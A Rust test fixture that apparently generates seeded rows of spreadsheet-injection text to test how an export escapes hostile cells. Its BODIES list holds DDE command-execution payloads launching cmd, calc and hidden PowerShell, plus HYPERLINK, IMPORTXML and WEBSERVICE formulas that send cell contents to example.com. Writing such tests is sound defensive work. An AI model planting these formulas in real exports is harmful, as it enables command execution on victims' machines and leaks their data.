//! Texts that break spreadsheets, and those that look as if they might.

use assay_domain::{Clock, RequestId};
use rand::{RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::Serialize;
use uuid::Uuid;

const SEED: u64 = 0xC5_7B_A2;
/// One cell in so many is long: as long as a line may be before LibreOffice breaks it in a cell of several lines.
const LONG_EVERY: usize = 501;
const LONG_CHARS: usize = 16_000;

/// A row of history whose texts somebody chose with bad intent.
#[derive(Debug, Serialize)]
pub struct HostileRow {
    pub id: RequestId,
    pub endpoint: String,
    pub provider: String,
    pub key_id: String,
    pub key_name: String,
}

const STARTS: &[&str] = &[
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "＝",
    "＋",
    "－",
    "＠",
    "'",
    "''",
    "'=",
    " =",
    "   =",
    "\u{a0}=",
    "\u{feff}=",
    "\t=",
    "\n=",
    " +",
    " -",
    " @",
    "\"",
    "\"=",
    ",",
    ",=",
    ";",
    ";=",
    "",
    "(",
    "{=",
    "%0A=",
    "\u{200b}=",
    "\u{202e}=",
    "|",
    "$",
];

const BODIES: &[&str] = &[
    "1+1",
    "cmd|' /C calc'!A0",
    "cmd|'/c powershell -w hidden'!A1",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
    "IMPORTXML(CONCAT(\"http://example.com/\",A1),\"//a\")",
    "WEBSERVICE(\"http://example.com/\"&A2)",
    "SUM(1,2)*cmd|' /C calc'!A0",
    "2+5+cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"1\")",
    "1;2,3",
    "a\"b\"\"c",
    "line\nline",
    "line\r\n=1+1",
    "line\rline",
    "tab\ttab",
    "two  spaces ",
    "O'Brien",
    "Zürich, 漢字; 💥 é",
    "0123",
    "1e5",
    "TRUE",
    "2026-01-31",
    "1/2",
    "",
];

/// The rows, oldest first. The same texts every time.
pub fn hostile_rows(count: usize) -> Vec<HostileRow> {
    let mut dice = ChaCha8Rng::seed_from_u64(SEED);
    let now = Clock::system().now();
    // The time of one id and counting numbers, so that the order is known.
    let base = RequestId::mint(now).uuid().as_u128() >> 64 << 64 | 0x8000_0000_0000_0000;
    let row = |number: usize| HostileRow {
        id: RequestId::from_uuid(Uuid::from_u128(base + u128::try_from(number).unwrap_or(0))),
        endpoint: cell(&mut dice, number * 4),
        provider: cell(&mut dice, number * 4 + 1),
        // Ids are unique; they are hostile behind their number.
        key_id: format!("{number}{}", cell(&mut dice, number * 4 + 2)),
        key_name: cell(&mut dice, number * 4 + 3),
    };
    (0..count).map(row).collect()
}

/// Every start with every body first, then any mix of them.
fn cell(dice: &mut ChaCha8Rng, number: usize) -> String {
    if number < STARTS.len() * BODIES.len() {
        return format!("{}{}", STARTS[number % STARTS.len()], BODIES[number / STARTS.len()]);
    }
    if number.is_multiple_of(LONG_EVERY) {
        return format!("{}{}", pick(dice, STARTS), "=x'\",".repeat(LONG_CHARS / 5));
    }
    let parts = dice.random_range(1..4);
    let mix: String = (0..parts).map(|_| format!("{}{}", pick(dice, STARTS), pick(dice, BODIES))).collect();
    mix
}

fn pick(dice: &mut ChaCha8Rng, texts: &'static [&'static str]) -> &'static str {
    texts[dice.random_range(0..texts.len())]
}
